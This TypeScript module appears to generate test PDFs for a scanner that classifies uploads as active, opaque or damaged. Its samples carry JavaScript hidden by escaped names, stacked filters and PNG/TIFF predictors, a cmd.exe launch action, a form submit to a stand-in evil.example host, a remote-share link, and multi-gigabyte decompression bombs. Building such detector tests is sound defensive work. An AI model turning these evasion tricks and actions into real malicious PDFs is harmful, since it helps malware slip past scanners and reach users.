import { constants, deflateRawSync, deflateSync } from 'node:zlib'
import { plainPdf } from '../scenes/documents.ts'
import type { Row } from './hostile-files.ts'

// PDFs that do something, or hide something.

export function hostilePdfs(): Row[] {
  const script = '/S /JavaScript /JS (app.alert\\(1\\))'
  const catalog = (entries: string) => plainPdf(`4 0 obj\n<< ${entries} >>\nendobj\n`)
  const packed = deflateSync(Buffer.from(`5 0 << ${script} >>`))
  const active: [string, Buffer][] = [
    ['JavaScript', catalog(script)],
    ['JavaScript, its name in escapes', catalog('/S /#4a#61vaScr#69pt /JS (x)')],
    ['something to do when it is opened', catalog('/OpenAction << /S /Named /N /Print >>')],
    ['something to do when it is opened, elsewhere', catalog('/OpenAction 5 0 R')],
    ['a program to start', catalog('/S /Launch /F (cmd.exe)')],
    ['a file in it', catalog('/Type /EmbeddedFile')],
    ['an XFA form', catalog('/AcroForm << /XFA [(template) 5 0 R] >>')],
    ['rich media', catalog('/Subtype /RichMedia')],
    ['a form that is sent', catalog('/S /SubmitForm /F (https://evil.example/)')],
    ['another file to open', catalog('/S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf)')],
    [
      'JavaScript in a packed object',
      plainPdf(part('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', packed)),
    ],
    [
      'JavaScript in a part that says it is a picture',
      plainPdf(part('/Subtype /Image /Filter /FlateDecode', packed)),
    ],
    ['JavaScript packed twice', plainPdf(part('/Filter [/FlateDecode /FlateDecode]', deflateSync(packed)))],
    [
      'JavaScript written as differences of rows',
      plainPdf(
        part(
          '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 8 >>',
          deflateSync(asDifferences(`5 0 << ${script} >>`, 8)),
        ),
      ),
    ],
    ['JavaScript in ASCII85', plainPdf(part('/Filter /ASCII85Decode', Buffer.from(as85(`<< ${script} >>`))))],
    [
      'JavaScript packed, in ASCII85, in short',
      plainPdf(part(`/Type /ObjStm /N 1 /First 4 /Filter [/A85 /Fl]`, Buffer.from(as85(packed)))),
    ],
    [
      'JavaScript packed, in hexadecimal',
      plainPdf(part('/Filter [/AHx /FlateDecode]', Buffer.from(`${packed.toString('hex')}>`))),
    ],
    ['JavaScript whose list is behind a comment', catalog('/S % <<\n/JavaScript << /Names [] >> /JS (x)')],
    ['JavaScript whose list is not empty', catalog('/JavaScript << /Names [(x) 5 0 R] >>')],
    ['files whose list goes on elsewhere', catalog('/EmbeddedFiles << /Kids [5 0 R] >>')],
    ['an empty list of scripts and a script', catalog(`/JavaScript << /Names [] >> /A << ${script} >>`)],
    [
      'JavaScript in a part within a comment',
      plainPdf(Buffer.concat([Buffer.from('% '), part('/Filter /FlateDecode', packed)])),
    ],
  ]
  const opaque: [string, Buffer][] = [
    ['a part in ASCII85 without end', plainPdf(part('/Filter /ASCII85Decode', Buffer.from('Gar8O')))],
    [
      'a part in ASCII85 that goes on',
      plainPdf(part('/Filter /ASCII85Decode', Buffer.from('Gar8O~>Gar8O~>'))),
    ],
    [
      'a part in ASCII85 with another letter',
      plainPdf(part('/Filter /ASCII85Decode', Buffer.from('Gavr8O~>'))),
    ],
    ['a part in ASCII85 beyond 32 bits', plainPdf(part('/Filter /ASCII85Decode', Buffer.from('uuuuu~>')))],
    [
      'a part in ASCII85 with one letter left',
      plainPdf(part('/Filter /ASCII85Decode', Buffer.from('Gar8OG~>'))),
    ],
    ['a part in ASCII85 with a z within', plainPdf(part('/Filter /ASCII85Decode', Buffer.from('Gaz8O~>')))],
    ['a part in hexadecimal with another letter', plainPdf(part('/Filter /AHx', Buffer.from('2f4g>')))],
    ['a part in ASCII twice', plainPdf(part('/Filter [/A85 /AHx]', Buffer.from('Gar8O~>')))],
    ['a part in ASCII within', plainPdf(part('/Filter [/Fl /A85]', deflateSync(Buffer.from('Gar8O~>'))))],
    [
      'objects in differences, in ASCII85',
      plainPdf(
        part(
          '/Type /ObjStm /N 1 /First 4 /Filter [/A85 /Fl] /DecodeParms [null << /Predictor 12 /Columns 8 >>]',
          Buffer.from(as85(packed)),
        ),
      ),
    ],
    ['a part in LZW', plainPdf(part('/Filter /#4cZWDecode', Buffer.from('800b', 'hex')))],
    ['a part in LZW, in short', plainPdf(part('/Filter [ /LZW ]', Buffer.from('800b', 'hex')))],
    ['a part in run lengths, in short', plainPdf(part('/Filter /RL', Buffer.from('80', 'hex')))],
    ['a filter that stands elsewhere', plainPdf(part('/Filter 7 0 R', packed))],
    ['a filter that stands elsewhere, in short', plainPdf(part('/F 7 0 R', packed))],
    [
      'a filter that stands elsewhere, in what looks like fonts in a comment',
      plainPdf(
        Buffer.concat([
          Buffer.from('7 0 obj\n/A85\nendobj\n'),
          part('/Length 9 % /Font <<\n/F 7 0 R >> %', Buffer.from('Gar8O~>')),
        ]),
      ),
    ],
    [
      'a filter that stands in a packed object, in what looks like fonts in a comment',
      plainPdf(
        Buffer.concat([
          part(
            '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode',
            deflateSync(Buffer.from('7 0 /ASCII85#44ecode')),
          ),
          part('/Length 9 % /Font <<\n/F 7 0 R >> %', Buffer.from('Gar8O~>')),
        ]),
      ),
    ],
    ['a filter that stands elsewhere, behind NUL', plainPdf(part('/Filter\0 7 0 R', packed))],
    ['a filter in short, behind a comment', plainPdf(part('/F %\n 7 0 R', packed))],
    ['a filter whose number is cut by a comment', plainPdf(part('/F 7%\n 0 R', packed))],
    ['a part that unpacks to 2 GB', plainPdf(part('/Filter /FlateDecode', packedZeros(2000)))],
    [
      'bombs that unpack to 30 MB each',
      plainPdf(Buffer.concat(Array(5).fill(part('/Filter /FlateDecode', packedZeros(30))))),
    ],
    [
      'a bomb packed in a bomb',
      plainPdf(part('/Filter [/FlateDecode /FlateDecode]', deflateSync(packedZeros(2000)))),
    ],
    ['a part packed five times', plainPdf(part(`/Filter [${'/FlateDecode '.repeat(5)}]`, packedOften(5)))],
    ['a part whose end is broken', plainPdf(part('/Filter /FlateDecode', brokenAtTheEnd(script)))],
    ['30,000 parts', plainPdf('stream\nendstream\n'.repeat(30_000))],
    [
      'a part that begins unclearly',
      plainPdf('4 0 obj\n<< /Length 4 >>\nstream %\nabcd\nendstream\nendobj\n'),
    ],
  ]
  return [
    ...hiddenObjects(script),
    ...active.map(([what, bytes]): Row => [`PDF with ${what}`, 'pan.pdf', 'activePdf', bytes]),
    ...opaque.map(([what, bytes]): Row => [`PDF with ${what}`, 'pan.pdf', 'opaquePdf', bytes]),
    [
      'PDF encrypted in a way that is nowhere',
      'pan.pdf',
      'opaquePdf',
      plainPdf('trailer << /Encrypt 9 0 R >>\n'),
    ],
    [
      'PDF encrypted for some, in escapes',
      'pan.pdf',
      'opaquePdf',
      plainPdf('trailer << /#45ncrypt << /Filter /Adobe.PubSec >> >>\n'),
    ],
    ['PDF cut off', 'pan.pdf', 'damagedPdf', plainPdf().subarray(0, -30)],
    ['the head of a PDF alone', 'pan.pdf', 'damagedPdf', '%PDF-1.7\n'],
    ['PDF without an object', 'pan.pdf', 'damagedPdf', '%PDF-1.7\nstartxref\n0\n%%EOF'],
  ]
}

/** Objects that act, packed as some reader unpacks them and written to be overlooked. */
function hiddenObjects(script: string): Row[] {
  const words = `5 0 << ${script} >>`
  const plain = deflateSync(Buffer.from(words))
  const objects = '/Type /ObjStm /N 1 /First 4'
  const flate = `${objects} /Filter /FlateDecode`
  const png = '<< /Predictor 12 /Columns 8 >>'
  const long = `/X (${'x'.repeat(3000)})`
  const above = deflateSync(asDifferences(words, 8))
  const left = deflateSync(asDifferencesToTheLeft(words, 12, 3, [1]))
  const tiff = deflateSync(asDifferencesToTheLeft(words, 8, 1))
  const active: [string, string | Buffer, Buffer?][] = [
    ['behind a long text', `${flate} /DecodeParms ${png} ${long}`, above],
    ['of three colours', `${flate} /DecodeParms << /Predictor 11 /Colors 3 /Columns 4 >>`, left],
    ['their name in escapes', `${flate} /Decode#50arms << /Pre#64ictor 12 /Columns 8 >>`, above],
    ['in short', `${flate} /DP ${png}`, above],
    ['in a list', `${flate} /DecodeParms [${png}]`, above],
    ['in ASCII85, named in short before a long text', `${objects} /F /A85 ${long}`, Buffer.from(as85(words))],
    ['between comments', `${flate} /DecodeParms %\n<< /Predictor%>>\r12 /Columns 8 >>`, above],
    [
      'in lines that end as on old Macs',
      Buffer.concat([
        Buffer.from(`4 0 obj\r<<\r${flate}\r/DecodeParms\r${png}\r${long}\r>>\rstream\r`),
        above,
        Buffer.from('\rendstream\rendobj\r'),
      ]),
    ],
  ]
  const opaque: [string, string | Buffer, Buffer?][] = [
    ['differences as TIFF writes them', `${flate} /DecodeParms << /Predictor 2 /Columns 8 >>`, tiff],
    ['differences that stand elsewhere', `${flate} /DecodeParms 7 0 R`, above],
    ['differences that stand elsewhere, in a list', `${flate} /DecodeParms [7 0 R]`, above],
    ['differences of a kind that stands elsewhere', `${flate} /DP << /Predictor 7 0 R /Columns 8 >>`, above],
    ['a width that stands elsewhere', `${flate} /DecodeParms << /Predictor 12 /Columns 7 0 R >>`, above],
    ['a width as a fraction', `${flate} /DecodeParms << /Predictor 12 /Columns 8. >>`, above],
    ['two widths', `${flate} /DecodeParms << /Predictor 12 /Columns 8 /Columns 9 >>`, above],
    ['differences of no known kind', `${flate} /DecodeParms << /Predictor 3 /Columns 8 >>`, above],
    ['differences told twice', `${flate} /DecodeParms null /DecodeParms ${png}`, above],
    ['differences told twice, once in short', `${flate} /DP null /DecodeParms ${png}`, above],
    ['differences behind a byte that is a space to some', `${flate} /DecodeParms\x80 1 /Y ${png}`, above],
    ['a filter that stands elsewhere, before a long text', `${objects} /Filter 7 0 R ${long}`, plain],
    ['two filters to choose from', `${flate} /F /ASCIIHexDecode`, plain],
    ['a filter of encryption', `${objects} /Filter [/Crypt /FlateDecode]`, plain],
    ['a filter of another file', `${flate} /FFilter /LZWDecode /F (x)`, plain],
    ['objects that are a fax', `${objects} /Filter /CCITTFaxDecode`, Buffer.from('26a0', 'hex')],
    ['objects that are a photo', `${objects} /Filter [/Fl /DCT]`, plain],
    [
      'packed twice, broken within',
      `${objects} /Filter [/FlateDecode /FlateDecode]`,
      deflateSync(brokenAtTheEnd(words)),
    ],
    ['no zlib where it should be', flate, Buffer.concat([Buffer.from('\0\0'), plain.subarray(2)])],
    ['another object within', `${flate} /DP << /Predictor 2 >> /X 4 0 obj << /Filter /Fl`, tiff],
    ['another object within a comment', `${flate} /DP << /Predictor 2 >> /X %4 0 obj <<\n /Y 1`, tiff],
    ['another object far behind', `${flate} /DP << /Predictor 2 >> /X %${long} 4 0 obj <<\n /Y 1`, tiff],
    [
      'a comment in its number',
      Buffer.concat([Buffer.from('4 %\n0 obj\n<< /X '), part(`${flate} /DP ${png} >>`, above)]),
    ],
    ['no number', Buffer.concat([Buffer.from('<< >>\nstream\n'), plain, Buffer.from('\nendstream\n')])],
    ['a text without end', Buffer.concat([Buffer.from('7 0 obj\n(\n'), part(flate, plain)])],
  ]
  const row =
    (fault: string, how: string) =>
    ([what, description, bytes]: [string, string | Buffer, Buffer?]): Row => {
      const content = bytes ? part(String(description), bytes) : Buffer.from(description)
      const seventh = Buffer.from(`7 0 obj\n${png}\nendobj\n`)
      return [`PDF with ${how}${what}`, 'pan.pdf', fault, plainPdf(Buffer.concat([content, seventh]))]
    }
  const update = Buffer.concat([plainPdf(), part(flate, plain), Buffer.from('startxref\n9\n%%EOF\n')])
  return [
    ...active.map(row('activePdf', 'JavaScript in packed objects ')),
    ...opaque.map(row('opaquePdf', 'packed objects: ')),
    ['PDF with JavaScript that came later', 'pan.pdf', 'activePdf', update],
    [
      'PDF with JavaScript in objects that go on from others',
      'pan.pdf',
      'activePdf',
      plainPdf(part(`${flate} /Extends 9 0 R`, plain)),
    ],
  ]
}

/** A part of a PDF, with its description. */
export function part(description: string, bytes: Buffer): Buffer {
  const head = `4 0 obj\n<< ${description} /Length ${bytes.length} >>\nstream\n`
  return Buffer.concat([Buffer.from(head, 'latin1'), bytes, Buffer.from('\nendstream\nendobj\n')])
}

/** In ASCII85, with its end. */
export function as85(bytes: Buffer | string): string {
  const all = Buffer.from(bytes)
  let text = ''
  for (let at = 0; at < all.length; at += 4) {
    const four = Buffer.alloc(4)
    const taken = all.copy(four, 0, at)
    const digits = [4, 3, 2, 1, 0].map((power) => Math.floor(four.readUInt32BE() / 85 ** power) % 85)
    text += String.fromCharCode(...digits.slice(0, Math.min(taken, 4) + 1).map((digit) => digit + 33))
  }
  return `${text}~>`
}

/** Each row of so many bytes as its difference to the one above, the way PNG writes them. */
function asDifferences(text: string, columns: number): Buffer {
  const plain = Buffer.from(text.padEnd(Math.ceil(text.length / columns) * columns))
  const rows = Array.from({ length: plain.length / columns }, (_, y) =>
    Buffer.from([
      2,
      ...plain
        .subarray(y * columns, (y + 1) * columns)
        .map((byte, x) => byte - (y > 0 ? plain[(y - 1) * columns + x]! : 0)),
    ]),
  )
  return Buffer.concat(rows)
}

/** Each byte as its difference to that of the pixel before: as TIFF does, or behind the `mark` of a row as PNG does. */
function asDifferencesToTheLeft(text: string, row: number, pixel: number, mark: number[] = []): Buffer {
  const plain = Buffer.from(text.padEnd(Math.ceil(text.length / row) * row))
  const rows = Array.from({ length: plain.length / row }, (_, y) => plain.subarray(y * row, (y + 1) * row))
  return Buffer.from(
    rows.flatMap((bytes) => [...mark, ...bytes.map((byte, x) => byte - (bytes[x - pixel] ?? 0))]),
  )
}

/** So many megabytes of zeros as zlib packs them, without ever having them: the packed megabyte is repeated. */
export function packedZeros(megabytes: number): Buffer {
  const one = deflateSync(Buffer.alloc(1024 * 1024))
  // Between the head of zlib and its checksum, flushed to whole bytes, so that it can stand many times.
  const block = deflateRawSync(Buffer.alloc(1024 * 1024), { finishFlush: constants.Z_FULL_FLUSH })
  const length = megabytes * 1024 * 1024
  const checksum = Buffer.alloc(4)
  checksum.writeUInt32BE((((length % 65521) << 16) | 1) >>> 0)
  return Buffer.concat([
    one.subarray(0, 2),
    ...Array<Buffer>(megabytes).fill(block),
    Buffer.from('0300', 'hex'),
    checksum,
  ])
}

function packedOften(times: number): Buffer {
  let bytes: Buffer = Buffer.from('deep')
  for (let n = 0; n < times; n++) bytes = deflateSync(bytes)
  return bytes
}

/** Readers show what came before the fault. */
function brokenAtTheEnd(text: string): Buffer {
  const bytes = deflateSync(Buffer.from(text))
  bytes.fill(0xff, bytes.length - 4)
  return bytes
}
